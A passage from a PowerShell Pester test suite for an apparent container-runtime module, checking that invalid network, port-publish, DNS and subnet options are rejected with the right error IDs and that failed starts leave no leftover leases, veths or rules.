        $script:containers = @(Get-MiniContainer).Count
        $script:networks = @(Get-MiniNetwork).Count
    }

    It 'rejects <Case> with <ErrorId>' -ForEach @(
        @{ Case = 'an unknown network'; ErrorId = 'NetworkNotFound'; Category = 'ObjectNotFound'; Params = @{ Network = 'nosuchnet' } }
        @{ Case = 'a -Publish without a container port'; ErrorId = 'InvalidPublish'; Category = 'InvalidArgument'; Params = @{ Network = 'bridge'; Publish = '8080' } }
        @{ Case = 'a -Publish with a bad protocol'; ErrorId = 'InvalidPublish'; Category = 'InvalidArgument'; Params = @{ Network = 'bridge'; Publish = '8080:80/sctp' } }
        @{ Case = 'a -Publish port out of range'; ErrorId = 'InvalidPublish'; Category = 'InvalidArgument'; Params = @{ Network = 'bridge'; Publish = '70000:80' } }
        @{ Case = 'a -Publish with -Network none'; ErrorId = 'PublishNeedsBridgeNetwork'; Category = 'InvalidArgument'; Params = @{ Network = 'none'; Publish = '8080:80' } }
        @{ Case = 'a -Dns that is no address'; ErrorId = 'InvalidDns'; Category = 'InvalidArgument'; Params = @{ Network = 'bridge'; Dns = 'dns.example' } }
        @{ Case = 'an -AddHost without an address'; ErrorId = 'InvalidAddHost'; Category = 'InvalidArgument'; Params = @{ Network = 'bridge'; AddHost = 'db' } }
        @{ Case = 'the rootless -Network pasta as root'; ErrorId = 'PastaNeedsRootless'; Category = 'InvalidArgument'; Params = @{ Network = 'pasta' } }
        @{ Case = 'the rootless -Network slirp4netns as root'; ErrorId = 'Slirp4netnsNeedsRootless'; Category = 'InvalidArgument'; Params = @{ Network = 'slirp4netns' } }
    ) {
        $err = { New-MiniContainer -RootFs $rootfs -Command true @Params } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike "$ErrorId,*"
        $err.CategoryInfo.Category | Should -Be $Category
        @(Get-MiniContainer).Count | Should -Be $containers
    }

    It 'rejects a subnet overlapping another network (SubnetOverlap) and a host route' {
        New-MiniNetwork first -Subnet 10.92.0.0/24 | Out-Null
        $err = { New-MiniNetwork second -Subnet 10.92.0.0/16 } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'SubnetOverlap,*'
        $err = { New-MiniNetwork third -Subnet 192.0.2.0/25 } | Should -Throw -PassThru   # the route on up0
        $err.FullyQualifiedErrorId | Should -BeLike 'SubnetOverlap,*'
        $err = { New-MiniNetwork fourth -Subnet 10.93.0.1/24 } | Should -Throw -PassThru
        $err.FullyQualifiedErrorId | Should -BeLike 'InvalidSubnet,*'
        Remove-MiniNetwork first
        @(Get-MiniNetwork).Count | Should -Be $networks
    }

    It 'fails the start on a host port another program holds (PortAlreadyAllocated) and leaves no lease, veth or rule' {
        Invoke-TestContainer -Options @{ Network = 'bridge' } -Command 'true' | Out-Null
        $veths = Get-Veths; $rules = Get-TableRules
        $taken = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Any, 18086)
        $taken.Start()
        try {
            $c = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '18086:80' -Command sleep, 60
            Start-MiniContainer -InputObject $c -ErrorVariable err -ErrorAction SilentlyContinue
            $err[0].FullyQualifiedErrorId | Should -BeLike 'PortAlreadyAllocated,*'
            $err[0].TargetObject.Name | Should -Be $c.Name
            (Get-MiniContainer -Id $c.Id).State | Should -Be 'Created'
        } finally { $taken.Stop() }
        (Get-Leases).ContainerId | Should -Not -Contain $c.Id
        Wait-Until { (Get-Veths).Count -eq $veths.Count } | Should -BeTrue
        (Get-TableRules).Count | Should -Be $rules.Count
        Remove-MiniContainer -InputObject $c
    }

    It 'fails the start on a host port another container publishes (PortAlreadyAllocated)' {
        $a = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '18087:80' -Command sleep, 60 | Start-MiniContainer -PassThru
        $b = New-MiniContainer -RootFs $rootfs -Network bridge -Publish '18087:81' -Command sleep, 60
        Start-MiniContainer -InputObject $b -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].FullyQualifiedErrorId | Should -BeLike 'PortAlreadyAllocated,*'
        (Get-Leases).ContainerId | Should -Not -Contain $b.Id
        Remove-MiniContainer -InputObject $a, $b -Force
    }
}
